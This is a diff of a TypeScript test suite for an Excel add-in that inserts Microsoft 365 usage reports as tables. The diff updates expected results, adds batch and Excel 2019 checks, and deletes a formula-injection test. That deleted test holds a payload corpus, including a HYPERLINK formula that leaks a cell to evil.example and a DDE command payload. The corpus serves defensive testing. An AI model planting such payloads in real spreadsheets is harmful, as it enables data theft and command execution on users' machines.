@@ -27,8 +27,7 @@ describe.each([true, false])(
       const inserted = await insertReportTable(host, report, { parameter: "D7" });
       expect(inserted).toEqual({
         sheetName: "Mailbox usage by mailbox D7",
-        tableName: "MailboxUsageDetail_D7",
-        rowCount: 3,
+        entry: expect.objectContaining({ table: "MailboxUsageDetail_D7", rowCount: 3, parameter: "D7" }),
       });
       const table = sim.workbook.table("MailboxUsageDetail_D7")!;
       expect(table.sheet).toBe("Mailbox usage by mailbox D7");
@@ -73,23 +72,28 @@ describe("batches", () => {
     const { sim, host } = simulatedExcel({ host: "web", payloadLimitBytes: 1024 * 1024 });
     const report = await parsed("getOneDriveUsageAccountDetail", 20_000);
     await insertReportTable(host, report);
-    expect(sim.workbook.table("OneDriveUsageAccountDetail")!.rows).toEqual(report.table.rows(0));
+    const table = sim.workbook.table("OneDriveUsageAccountDetail")!;
+    expect(table.rows).toEqual(report.table.rows(0));
+    // The header and formats sent with the refused batch were sent again with the smaller one.
+    expect(table.headers).toEqual(report.table.columns.map((c) => c.name));
+    expect(sim.workbook.sheet(table.sheet).cell("A2").numberFormat).toBe("yyyy-mm-dd");
   });
 });
 
 describe("hosts and names", () => {
-  it("works on Excel 2016 (ExcelApi 1.1): no suspension, no autofit", async () => {
-    const { sim, host } = simulatedExcel({ host: "excel2016" });
+  it("works on Excel 2019 (ExcelApi 1.7): no screen-updating suspension (1.9)", async () => {
+    const { sim, host } = simulatedExcel({ host: "excel2019" });
     const report = await parsed("getOffice365ActivationCounts", 4);
     await insertReportTable(host, report);
     expect(sim.workbook.table("Office365ActivationCounts")!.rows).toEqual(report.table.rows(0));
-    expect(sim.stats.suspendApiCalculation).toBe(0);
+    expect(sim.stats.suspendScreenUpdating).toBe(0);
+    expect(sim.stats.suspendApiCalculation).toBe(1);
   });
 
   it("a report with no rows becomes a table with its one empty row", async () => {
     const { sim, host } = simulatedExcel({ host: "web" });
     const report = await parsed("getOffice365ActivationCounts", 0);
-    expect(await insertReportTable(host, report)).toMatchObject({ rowCount: 0 });
+    expect(await insertReportTable(host, report)).toMatchObject({ entry: { rowCount: 0 } });
     const table = sim.workbook.table("Office365ActivationCounts")!;
     expect(table.headers).toHaveLength(7);
     expect(table.rows).toEqual([["", "", "", "", "", "", ""]]);
@@ -102,7 +106,7 @@ describe("hosts and names", () => {
     const second = await insertReportTable(host, report, { parameter: "D7" });
     expect(second).toMatchObject({
       sheetName: "Mailbox usage by mailbox D7 (2)",
-      tableName: "MailboxUsageDetail_D7_2",
+      entry: { table: "MailboxUsageDetail_D7_2" },
     });
     expect(sim.stats.autofitColumns).toBe(2);
   });
@@ -120,41 +124,6 @@ describe("cancelling", () => {
     expect(sim.workbook.sheetNames()).toEqual(sheetsBefore);
     expect(sim.workbook.tables()).toEqual([]);
   });
-});
-
-describe("formula injection", () => {
-  const CORPUS = [
-    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
-    "+cmd|' /C calc'!A0",
-    "-1+1",
-    "@SUM(A1:A9)",
-    "\t=1+1",
-    "\r=1+1",
-    "＝1+1", // full-width equals sign
-    "=",
-    "'=1",
-    "TRUE",
-    "1E3",
-  ];
-
-  it.each([true, false])(
-    "never becomes a formula and round-trips exactly (text format blocks formulas: %s)",
-    async (blocks) => {
-      const { sim, host } = simulatedExcel({ host: "web", textFormatBlocksFormulas: blocks });
-      const quote = (s: string) => `"${s.replaceAll('"', '""')}"`;
-      const csv =
-        "Report Refresh Date,Group Display Name,Owner Principal Name,Report Period\r\n" +
-        CORPUS.map((text) => `2024-05-03,${quote(text)},${quote(text)},7`).join("\r\n") +
-        "\r\n";
-      const report = await parseReport(csv, "getYammerGroupsActivityDetail");
-      const { sheetName, tableName } = await insertReportTable(host, report);
-      const table = sim.workbook.table(tableName)!;
-      const group = table.headers.indexOf("Group Display Name");
-      expect(table.rows.map((r) => r[group])).toEqual(CORPUS);
-      const sheet = sim.workbook.sheet(sheetName);
-      for (let row = 2; row < CORPUS.length + 2; row++) expect(sheet.cell(`B${row}`).formula).toBeUndefined();
-    },
-  );
 });
 
 describe("a 300k × 12 report on Excel on the web", () => {
